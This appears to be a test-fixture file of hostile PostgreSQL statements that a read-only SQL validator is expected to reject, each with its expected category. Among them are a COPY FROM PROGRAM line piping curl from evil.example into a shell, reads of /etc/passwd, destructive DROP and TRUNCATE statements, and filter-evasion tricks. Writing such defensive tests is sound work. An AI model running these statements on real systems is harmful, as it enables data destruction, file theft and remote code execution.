-- Hostile statements: every entry must be refused by SqlGuard.requireSafeRead with exactly the category named.
-- Format: see README.md in this folder. Tables refer to the sample schema described there.

-- expect: MULTIPLE_STATEMENTS | stacked DROP after a read
SELECT * FROM customers; DROP TABLE customers;
-- expect: MULTIPLE_STATEMENTS | stacked DELETE without trailing semicolon
SELECT 1; DELETE FROM orders
-- expect: MULTIPLE_STATEMENTS | a whole transaction in one submission
BEGIN; DELETE FROM orders; COMMIT;
-- expect: MULTIPLE_STATEMENTS | a comment before the separator does not hide it
SELECT 1 /* harmless */; UPDATE products SET price = 0
-- expect: MULTIPLE_STATEMENTS | backslash does not escape the quote in a standard string, so the DROP is a statement
SELECT '\'; DROP TABLE customers; --'
-- expect: MULTIPLE_STATEMENTS | the semicolon after a dollar-quoted string separates statements
SELECT $$;$$; DROP TABLE customers
-- expect: MULTIPLE_STATEMENTS | statements on separate lines
SELECT 1;
SELECT 2
-- expect: MULTIPLE_STATEMENTS | a line comment ends at the line break
SELECT 1 --
; DELETE FROM orders
-- expect: MULTIPLE_STATEMENTS | an escaped backslash closes the E string before the separator
SELECT E'\\'; DELETE FROM orders; --'
-- expect: MULTIPLE_STATEMENTS | $$ inside a tagged dollar quote does not close it
SELECT $a$ $$ ; $a$; DROP TABLE customers
-- expect: MULTIPLE_STATEMENTS | nested block comments close before the separator
SELECT 1 /* /* nested */ still comment */; DROP TABLE orders
-- expect: MULTIPLE_STATEMENTS | TABLE statements stacked
TABLE customers; TABLE orders
-- expect: MULTIPLE_STATEMENTS | parenthesised query followed by a write
(SELECT 1); DELETE FROM orders
-- expect: MULTIPLE_STATEMENTS | VALUES followed by TRUNCATE
VALUES (1); TRUNCATE orders
-- expect: TRANSACTION_CONTROL | BEGIN
BEGIN
-- expect: TRANSACTION_CONTROL | START TRANSACTION READ WRITE
START TRANSACTION READ WRITE
-- expect: TRANSACTION_CONTROL | COMMIT
COMMIT
-- expect: TRANSACTION_CONTROL | ROLLBACK
ROLLBACK
-- expect: TRANSACTION_CONTROL | SAVEPOINT
SAVEPOINT before_cleanup
-- expect: TRANSACTION_CONTROL | RELEASE SAVEPOINT
RELEASE SAVEPOINT before_cleanup
-- expect: TRANSACTION_CONTROL | ROLLBACK TO SAVEPOINT
ROLLBACK TO SAVEPOINT before_cleanup
-- expect: TRANSACTION_CONTROL | END commits in PostgreSQL
END
-- expect: TRANSACTION_CONTROL | ABORT rolls back in PostgreSQL
ABORT
-- expect: TRANSACTION_CONTROL | SET TRANSACTION READ WRITE would defeat the read-only transaction
SET TRANSACTION READ WRITE
-- expect: TRANSACTION_CONTROL | two-phase commit
PREPARE TRANSACTION 'pgwarden'
-- expect: TRANSACTION_CONTROL | committing a prepared transaction
COMMIT PREPARED 'pgwarden'
-- expect: TRANSACTION_CONTROL | lower case BEGIN with options
begin isolation level serializable
-- expect: SESSION_CONTROL | role switch
SET ROLE postgres
-- expect: SESSION_CONTROL | session authorization switch
SET SESSION AUTHORIZATION postgres
-- expect: SESSION_CONTROL | RESET ROLE
RESET ROLE
-- expect: SESSION_CONTROL | search_path hijack
SET search_path = attacker, public
-- expect: SESSION_CONTROL | disabling the statement timeout
SET LOCAL statement_timeout = 0
-- expect: SESSION_CONTROL | turning off read-only mode
set default_transaction_read_only = off
-- expect: SESSION_CONTROL | DISCARD ALL
DISCARD ALL
-- expect: SESSION_CONTROL | RESET ALL
RESET ALL
-- expect: SESSION_CONTROL | SHOW reveals server settings
SHOW data_directory
-- expect: FORBIDDEN_FUNCTION | set_config changes settings from inside a query
SELECT set_config('statement_timeout', '0', false)
-- expect: FORBIDDEN_FUNCTION | current_setting is not on the allow-list
SELECT current_setting('data_directory')
-- expect: WRITE_IN_READ | DELETE
DELETE FROM orders
-- expect: WRITE_IN_READ | UPDATE
UPDATE products SET price = 0
-- expect: WRITE_IN_READ | INSERT
INSERT INTO customers (name) VALUES ('mallory')
-- expect: WRITE_IN_READ | upsert
INSERT INTO customers (id, name) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET name = excluded.name
-- expect: WRITE_IN_READ | MERGE
MERGE INTO products p USING customers c ON p.id = c.id WHEN MATCHED THEN DELETE
-- expect: WRITE_IN_READ | a WITH clause in front of a DELETE does not make it a read
WITH stale AS (SELECT id FROM orders WHERE status = 'stale') DELETE FROM orders WHERE id IN (SELECT id FROM stale)
-- expect: WRITE_IN_READ | lower case DELETE with a parameter
delete from orders where id = ?
-- expect: WRITE_IN_READ | a comment claiming to be a read
DELETE /* just a read */ FROM orders WHERE id = 1
-- expect: DATA_MODIFYING_CTE | DELETE hidden in a WITH item
WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone
-- expect: DATA_MODIFYING_CTE | UPDATE hidden in a WITH item
WITH changed AS (UPDATE products SET price = price * 2 RETURNING id) SELECT * FROM changed
-- expect: DATA_MODIFYING_CTE | INSERT hidden in a WITH item
WITH added AS (INSERT INTO customers (name) VALUES ('x') RETURNING id) SELECT id FROM added
-- expect: DATA_MODIFYING_CTE | MERGE hidden in a WITH item (PostgreSQL 17)
WITH m AS (MERGE INTO products p USING customers c ON p.id = c.id WHEN MATCHED THEN DELETE RETURNING p.id) SELECT * FROM m
-- expect: DATA_MODIFYING_CTE | second WITH item, MATERIALIZED
WITH a AS (SELECT 1), b AS MATERIALIZED (DELETE FROM orders RETURNING id) SELECT * FROM a
-- expect: DATA_MODIFYING_CTE | recursive WITH list with a DELETE item
WITH RECURSIVE r AS (SELECT 1 AS n), d AS (DELETE FROM orders RETURNING id) SELECT * FROM r
-- expect: DATA_MODIFYING_CTE | mixed case and comments around the hidden DELETE
wItH g aS /* sneaky */ ( -- hidden
 dElEtE FROM orders RETURNING id) SELECT * FROM g
-- expect: DATA_MODIFYING_CTE | NOT MATERIALIZED UPDATE
WITH d AS NOT MATERIALIZED (UPDATE customers SET email = NULL RETURNING id) SELECT 1
-- expect: DATA_MODIFYING_CTE | data-modifying WITH inside a subquery
SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d) AS x
-- expect: DATA_MODIFYING_CTE | a DELETE feeding an INSERT
WITH d AS (DELETE FROM orders RETURNING id) INSERT INTO archive SELECT * FROM d
-- expect: SELECT_INTO | SELECT INTO creates a table
SELECT * INTO customers_backup FROM customers
-- expect: SELECT_INTO | SELECT INTO TEMP
SELECT * INTO TEMP stolen FROM customers
-- expect: SELECT_INTO | SELECT INTO UNLOGGED TABLE
SELECT * INTO UNLOGGED TABLE stolen FROM customers
-- expect: SELECT_INTO | SELECT INTO after a WITH clause
WITH c AS (SELECT * FROM customers) SELECT * INTO copy FROM c
-- expect: SELECT_INTO | SELECT INTO TEMPORARY in a UNION
SELECT id INTO TEMPORARY t FROM orders UNION SELECT id FROM orders
-- expect: LOCKING_CLAUSE | FOR UPDATE
SELECT * FROM orders FOR UPDATE
-- expect: LOCKING_CLAUSE | FOR NO KEY UPDATE
SELECT * FROM orders FOR NO KEY UPDATE
-- expect: LOCKING_CLAUSE | FOR SHARE
SELECT * FROM orders FOR SHARE
-- expect: LOCKING_CLAUSE | FOR KEY SHARE
SELECT * FROM orders FOR KEY SHARE
-- expect: LOCKING_CLAUSE | FOR UPDATE OF two tables with NOWAIT (JSqlParser cannot parse it)
SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o, c NOWAIT
-- expect: LOCKING_CLAUSE | SKIP LOCKED
SELECT * FROM orders FOR UPDATE SKIP LOCKED
-- expect: LOCKING_CLAUSE | locking in a subquery
SELECT * FROM (SELECT * FROM orders FOR UPDATE) locked
-- expect: LOCKING_CLAUSE | locking in a WITH item
WITH l AS (SELECT * FROM customers FOR SHARE) SELECT * FROM l
-- expect: LOCKING_CLAUSE | locking after a UNION
SELECT id FROM orders UNION SELECT id FROM orders FOR UPDATE
-- expect: LOCKING_CLAUSE | a comment between FOR and UPDATE
select * from orders for /* x */ update
-- expect: FORBIDDEN_FUNCTION | pg_sleep
SELECT pg_sleep(10)
-- expect: FORBIDDEN_FUNCTION | pg_sleep_for
SELECT pg_sleep_for('5 minutes')
-- expect: FORBIDDEN_FUNCTION | pg_sleep_until
SELECT pg_sleep_until(now() + interval '1 hour')
-- expect: FORBIDDEN_FUNCTION | sleep in WHERE
SELECT * FROM customers WHERE pg_sleep(1) IS NOT NULL
-- expect: FORBIDDEN_FUNCTION | sleep in ORDER BY
SELECT * FROM customers ORDER BY pg_sleep(0.1)
-- expect: FORBIDDEN_FUNCTION | sleep as a table function
SELECT * FROM pg_sleep(5)
-- expect: FORBIDDEN_FUNCTION | sleep in a LATERAL subquery
SELECT * FROM customers c, LATERAL (SELECT pg_sleep(1)) s
-- expect: FORBIDDEN_FUNCTION | sleep in a window ORDER BY
SELECT row_number() OVER (ORDER BY pg_sleep(1)) FROM customers
-- expect: FORBIDDEN_FUNCTION | sleep in an aggregate FILTER
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders
-- expect: FORBIDDEN_FUNCTION | sleep in a LIMIT subquery
SELECT * FROM customers LIMIT (SELECT 1 FROM pg_sleep(5))
-- expect: FORBIDDEN_FUNCTION | sleep in a CASE
SELECT CASE WHEN true THEN pg_sleep(1) END
-- expect: FORBIDDEN_FUNCTION | sleep in HAVING
SELECT id FROM orders GROUP BY id HAVING pg_sleep(1) IS NULL
-- expect: FORBIDDEN_FUNCTION | sleep inside a :: cast
SELECT pg_sleep(1)::text
-- expect: FORBIDDEN_FUNCTION | sleep inside CAST
SELECT CAST(pg_sleep(1) AS text)
-- expect: FORBIDDEN_FUNCTION | upper case name folds to pg_sleep
SELECT PG_SLEEP(5)
-- expect: FORBIDDEN_FUNCTION | quoted lower case name is pg_sleep
SELECT "pg_sleep"(5)
-- expect: FORBIDDEN_FUNCTION | schema-qualified
SELECT pg_catalog.pg_sleep(5)
-- expect: FORBIDDEN_FUNCTION | quoted schema and name
SELECT "pg_catalog"."pg_sleep"(5)
-- expect: FORBIDDEN_FUNCTION | Unicode-escaped identifier spelling pg_sleep
SELECT U&"\0070g_sleep"(5)
-- expect: FORBIDDEN_FUNCTION | Unicode-escaped identifier with a custom UESCAPE character
SELECT U&"!0070g_sleep" UESCAPE '!' (5)
-- expect: FORBIDDEN_FUNCTION | block comment between name and parenthesis
SELECT pg_sleep/**/(5)
-- expect: FORBIDDEN_FUNCTION | line comment between name and parenthesis
SELECT pg_sleep -- comment
(5)
-- expect: FORBIDDEN_FUNCTION | quoted upper case name is a different, unknown function
SELECT "PG_SLEEP"(5)
-- expect: FORBIDDEN_FUNCTION | JSqlParser would read // as a comment and miss the call
SELECT 1 // 2, pg_sleep(5)
-- expect: FORBIDDEN_FUNCTION | JSqlParser would read q'[...]' as one Oracle string and miss the call
SELECT q'[', pg_sleep(5), ']'
-- expect: FORBIDDEN_FUNCTION | $$ inside a tagged dollar quote does not end it
SELECT $q$ $$ $q$, pg_sleep(5)
-- expect: FORBIDDEN_FUNCTION | an escaped quote in an E string does not end it
SELECT E'\'', pg_sleep(5)
-- expect: FORBIDDEN_FUNCTION | sleeping recursive CTE
WITH RECURSIVE slow(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM slow WHERE pg_sleep(0.1) IS NOT NULL) SELECT * FROM slow
-- expect: FORBIDDEN_FUNCTION | sequence-advancing recursive CTE
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT nextval('orders_id_seq') FROM r) SELECT * FROM r LIMIT 5
-- expect: FORBIDDEN_FUNCTION | sleep in an IN subquery
SELECT * FROM customers WHERE id IN (SELECT pg_sleep(1)::int)
-- expect: FORBIDDEN_FUNCTION | sleep in EXISTS
SELECT EXISTS (SELECT 1 WHERE pg_sleep(1) IS NULL)
-- expect: FORBIDDEN_FUNCTION | nextval
SELECT nextval('orders_id_seq')
-- expect: FORBIDDEN_FUNCTION | setval
SELECT setval('orders_id_seq', 1)
-- expect: FORBIDDEN_FUNCTION | currval leaks another request's sequence value on a pooled connection
SELECT currval('orders_id_seq')
-- expect: FORBIDDEN_FUNCTION | lastval
SELECT lastval()
-- expect: FORBIDDEN_FUNCTION | nextval a thousand times
SELECT nextval('orders_id_seq'::regclass) FROM generate_series(1, 1000)
-- expect: FORBIDDEN_FUNCTION | lo_import reads a server file
SELECT lo_import('/etc/passwd')
-- expect: FORBIDDEN_FUNCTION | lo_export writes a server file
SELECT lo_export(16384, '/tmp/dump')
-- expect: FORBIDDEN_FUNCTION | lo_unlink
SELECT lo_unlink(16384)
-- expect: FORBIDDEN_FUNCTION | loread and lo_open
SELECT loread(lo_open(16384, 262144), 1000000)
-- expect: FORBIDDEN_FUNCTION | lo_from_bytea creates a large object
SELECT lo_from_bytea(0, 'payload')
-- expect: FORBIDDEN_FUNCTION | pg_read_file
SELECT pg_read_file('/etc/passwd')
-- expect: FORBIDDEN_FUNCTION | pg_read_binary_file
SELECT pg_read_binary_file('postgresql.conf')
-- expect: FORBIDDEN_FUNCTION | pg_ls_dir
SELECT * FROM pg_ls_dir('.')
-- expect: FORBIDDEN_FUNCTION | pg_stat_file
SELECT pg_stat_file('postgresql.conf')
-- expect: FORBIDDEN_FUNCTION | pg_ls_waldir
SELECT * FROM pg_ls_waldir()
-- expect: FORBIDDEN_FUNCTION | terminating every backend
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
-- expect: FORBIDDEN_FUNCTION | pg_cancel_backend
SELECT pg_cancel_backend(42)
-- expect: FORBIDDEN_FUNCTION | pg_reload_conf
SELECT pg_reload_conf()
-- expect: FORBIDDEN_FUNCTION | pg_rotate_logfile
SELECT pg_rotate_logfile()
-- expect: FORBIDDEN_FUNCTION | advisory lock
SELECT pg_advisory_lock(42)
-- expect: FORBIDDEN_FUNCTION | try advisory transaction lock
SELECT pg_try_advisory_xact_lock(42)
-- expect: FORBIDDEN_FUNCTION | advisory unlock
SELECT pg_advisory_unlock_all()
-- expect: FORBIDDEN_FUNCTION | dblink to another server
SELECT * FROM dblink('host=evil.example dbname=x', 'SELECT 1') AS t(a int)
-- expect: FORBIDDEN_FUNCTION | dblink_exec runs a write elsewhere
SELECT dblink_exec('dbname=sample', 'DELETE FROM orders')
-- expect: FORBIDDEN_FUNCTION | logical replication slot
SELECT pg_create_logical_replication_slot('s', 'pgoutput')
-- expect: FORBIDDEN_FUNCTION | physical replication slot
SELECT pg_create_physical_replication_slot('s')
-- expect: FORBIDDEN_FUNCTION | WAL switch
SELECT pg_switch_wal()
-- expect: FORBIDDEN_FUNCTION | standby promotion
SELECT pg_promote()
-- expect: FORBIDDEN_FUNCTION | backup start
SELECT pg_backup_start('x')
-- expect: FORBIDDEN_FUNCTION | txid_current assigns a transaction id
SELECT txid_current()
-- expect: FORBIDDEN_FUNCTION | pg_current_xact_id assigns a transaction id
SELECT pg_current_xact_id()
-- expect: FORBIDDEN_FUNCTION | query_to_xml runs SQL text
SELECT query_to_xml('DELETE FROM orders RETURNING id', true, false, '')
-- expect: FORBIDDEN_FUNCTION | table_to_xml
SELECT table_to_xml('customers', true, false, '')
-- expect: FORBIDDEN_FUNCTION | cursor_to_xml
SELECT cursor_to_xml('c', 10, true, false, '')
-- expect: FORBIDDEN_FUNCTION | pg_notify
SELECT pg_notify('orders', 'x')
-- expect: FORBIDDEN_FUNCTION | unknown user-defined function
SELECT my_custom_function(1)
-- expect: FORBIDDEN_FUNCTION | a schema-qualified lower is a user function, not the built-in
SELECT public.lower('x')
-- expect: FORBIDDEN_FUNCTION | statistics reset
SELECT pg_stat_reset()
-- expect: UTILITY_STATEMENT | COPY to a server file
COPY customers TO '/tmp/customers.csv'
-- expect: UTILITY_STATEMENT | COPY from a program
COPY customers FROM PROGRAM 'curl http://evil.example | sh'
-- expect: UTILITY_STATEMENT | COPY of a query
COPY (SELECT * FROM customers) TO STDOUT
-- expect: UTILITY_STATEMENT | lower case COPY FROM STDIN
copy orders from stdin
-- expect: UTILITY_STATEMENT | DO block with a DELETE
DO $$ BEGIN DELETE FROM orders; END $$
-- expect: UTILITY_STATEMENT | DO block with a tagged body
DO LANGUAGE plpgsql $body$ BEGIN PERFORM pg_sleep(1); END $body$
-- expect: UTILITY_STATEMENT | CALL a procedure
CALL archive_orders()
-- expect: UTILITY_STATEMENT | PREPARE a write
PREPARE wipe AS DELETE FROM orders
-- expect: UTILITY_STATEMENT | EXECUTE a prepared statement
EXECUTE wipe
-- expect: UTILITY_STATEMENT | DEALLOCATE
DEALLOCATE ALL
-- expect: UTILITY_STATEMENT | explicit table lock
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
-- expect: UTILITY_STATEMENT | short LOCK form
LOCK customers
-- expect: UTILITY_STATEMENT | NOTIFY
NOTIFY orders_changed, 'x'
-- expect: UTILITY_STATEMENT | LISTEN
LISTEN orders_changed
-- expect: UTILITY_STATEMENT | UNLISTEN
UNLISTEN *
-- expect: UTILITY_STATEMENT | EXPLAIN ANALYZE executes the DELETE
EXPLAIN ANALYZE DELETE FROM orders
-- expect: UTILITY_STATEMENT | EXPLAIN with options executes the UPDATE
EXPLAIN (ANALYZE, BUFFERS) UPDATE products SET price = 0
-- expect: UTILITY_STATEMENT | plain EXPLAIN is not run either
EXPLAIN SELECT * FROM orders
-- expect: UTILITY_STATEMENT | VACUUM FULL
VACUUM FULL orders
-- expect: UTILITY_STATEMENT | ANALYZE
ANALYZE orders
-- expect: UTILITY_STATEMENT | REFRESH MATERIALIZED VIEW
REFRESH MATERIALIZED VIEW order_totals
-- expect: UTILITY_STATEMENT | CLUSTER
CLUSTER orders USING orders_pkey
-- expect: UTILITY_STATEMENT | REINDEX
REINDEX TABLE orders
-- expect: UTILITY_STATEMENT | CHECKPOINT
CHECKPOINT
-- expect: UTILITY_STATEMENT | LOAD a library
LOAD 'auto_explain'
-- expect: UTILITY_STATEMENT | DECLARE a cursor
DECLARE c CURSOR FOR SELECT * FROM customers
-- expect: UTILITY_STATEMENT | FETCH from a cursor
FETCH ALL FROM c
-- expect: DDL_BLOCKED | DROP TABLE
DROP TABLE customers
-- expect: DDL_BLOCKED | TRUNCATE
TRUNCATE orders
-- expect: DDL_BLOCKED | CREATE TABLE AS copies data out
CREATE TABLE stolen AS SELECT * FROM customers
-- expect: DDL_BLOCKED | ALTER TABLE
ALTER TABLE customers ADD COLUMN pwned boolean
-- expect: DDL_BLOCKED | GRANT
GRANT ALL ON customers TO PUBLIC
-- expect: DDL_BLOCKED | REVOKE
REVOKE SELECT ON customers FROM analyst
-- expect: DDL_BLOCKED | COMMENT ON
COMMENT ON TABLE customers IS 'pwned'
-- expect: DDL_BLOCKED | CREATE FUNCTION with a dollar-quoted body
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM orders RETURNING 1 $$
-- expect: DDL_BLOCKED | CREATE EXTENSION
CREATE EXTENSION dblink
-- expect: DDL_BLOCKED | ALTER SYSTEM
ALTER SYSTEM SET log_statement = 'none'
-- expect: DDL_BLOCKED | CREATE ROLE
CREATE ROLE mallory SUPERUSER
-- expect: DDL_BLOCKED | SECURITY LABEL
SECURITY LABEL ON TABLE customers IS 'x'
-- expect: UNPARSEABLE | misspelled keyword
SELEC * FROM customers
-- expect: UNPARSEABLE | incomplete WHERE
SELECT * FROM customers WHERE
-- expect: UNPARSEABLE | unterminated string
SELECT 'unterminated
-- expect: UNPARSEABLE | unterminated block comment
SELECT 1 /* unterminated comment
-- expect: UNPARSEABLE | unterminated dollar quote
SELECT $$never closed
-- expect: UNPARSEABLE | psql meta-command
\copy customers to '/tmp/x'
-- expect: UNPARSEABLE | a backslash before a closing quote reads differently when standard_conforming_strings is off
SELECT '\', pg_sleep(5) --'
-- expect: UNPARSEABLE | blank lines do not separate statements in PostgreSQL
SELECT 1


DROP TABLE customers
-- expect: UNPARSEABLE | JDBC escape syntax would be rewritten by the driver
SELECT {fn pg_sleep(5)}
-- expect: UNPARSEABLE | JDBC call escape
{call archive_orders()}
-- expect: UNPARSEABLE | backticks are MySQL quoting, which JSqlParser would read as an identifier
SELECT `pg_sleep`(5)
-- expect: UNPARSEABLE | malformed Unicode escape
SELECT U&"\00zz"(1)
-- expect: UNPARSEABLE | GO is not a statement separator in PostgreSQL
SELECT 1
GO
DROP TABLE customers
-- expect: EMPTY | empty text
-- expect: EMPTY | only a semicolon
;
-- expect: EMPTY | only a comment
-- just a comment
-- expect: EMPTY | a comment and empty statements
/* nothing */ ;;
